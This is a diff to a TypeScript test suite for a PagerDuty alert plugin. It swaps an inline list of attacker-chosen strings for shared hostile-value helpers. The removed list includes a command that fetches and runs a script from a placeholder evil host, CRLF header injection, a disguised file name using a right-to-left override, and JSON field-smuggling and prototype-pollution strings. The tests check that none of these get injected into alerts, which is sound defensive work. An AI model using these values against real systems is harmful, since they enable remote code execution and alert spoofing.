@@ -4,7 +4,7 @@ import { createServer } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { type Document, type Evidence, env, type Letter, type Outcome, type Signal, secretFile, severities } from '@cws/core'
-import { PluginTester, sampleSignal, TestNotifier } from '@cws/core/testing'
+import { hostileLetter, hostileValues, PluginTester, sampleSignal, TestNotifier } from '@cws/core/testing'
 import { array, assert, constantFrom, integer, property } from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { defaultMessage } from '../../../core/src/messages/default-message.ts'
@@ -382,24 +382,6 @@ describe('a page', () => {
 })
 
 describe('what an attacker chose', () => {
-  const EVIL = [
-    'https://evil.example/login',
-    'www.evil.example',
-    'curl evil.example/x|sh',
-    'evil.com',
-    'root@evil.example',
-    'mailto:root@evil.example',
-    'a\r\nSeverity: info',
-    '\u202egpj.exe\u2066',
-    'a\u0000\u001b[31m\u009b',
-    '\u200b\ufeff\u{e0041}',
-    '{{severity}} {{{{raw}}}}',
-    '[x](https://evil.example) ![](http://evil.example/p) <img src=http://evil.example>',
-    '<!channel> <https://evil.example|ok> @channel',
-    '"},"dedup_key":"x","event_action":"resolve","x":{"',
-    '__proto__',
-    '\ud800',
-  ]
   const saidBy = (text: string): Told => ({
     signal: {
       title: text,
@@ -416,25 +398,10 @@ describe('what an attacker chose', () => {
   it('is in no link and no invisible character of a page, and in no other alert [case 45]', async () => {
     await using receiver = await PagerDuty.start()
     await using about = await set(receiver)
-    for (const text of EVIL) {
-      expect(await about.tell('opened', saidBy(text)), text).toMatchObject({ result: 'delivered' })
-      expect(injectedInto(lastTrigger(receiver)), text).toEqual([])
-      // The same values in the message as it is without a template: titles, lineage, facts.
-      const process = {
-        file: { name: text, path: `/${text}` },
-        user: text,
-        args: text,
-        argv: [text],
-        ancestors: [{ comm: text, args: text }],
-      }
-      const told = {
-        ...saidBy(text).signal,
-        event: { type: 'exec', process, exec: { file: { path: text } } },
-        group: { 'exec.args': text },
-      }
-      const message = defaultMessage({ signal: sampleSignal(told), occasion: opened })
-      expect(await about.tell('opened', { signal: told, letter: { message } }), text).toMatchObject({ result: 'delivered' })
-      expect(injectedInto(lastTrigger(receiver)), text).toEqual([])
+    for (const text of hostileValues) {
+      const { signal, ...written } = hostileLetter(text)
+      expect(await about.tell('opened', { signal, letter: written }), text).toMatchObject({ result: 'delivered' })
+      expect(injectedInto(lastTrigger(receiver), 'https://wiki.example.com/?q='), text).toEqual([])
     }
     expect(receiver.alerts).toHaveLength(1)
     expect(lastTrigger(receiver).payload.source).toBe('test')
@@ -444,7 +411,8 @@ describe('what an attacker chose', () => {
     await using receiver = await PagerDuty.start()
     await using about = await set(receiver, { signalUrl: 'https://wiki.example.com/' })
     const href = 'https://wiki.example.com/..%2F%40evil.example%3F'
-    await about.tell('opened', { ...saidBy(EVIL.join(' ')), signal: { ...saidBy(EVIL.join(' ')).signal, id: '../@evil.example?' } })
+    const evil = hostileValues.filter(({ length }) => length < 200).join(' ')
+    await about.tell('opened', { ...saidBy(evil), signal: { ...saidBy(evil).signal, id: '../@evil.example?' } })
     expect(injectedInto(lastTrigger(receiver))).toEqual([href, href])
   })
 
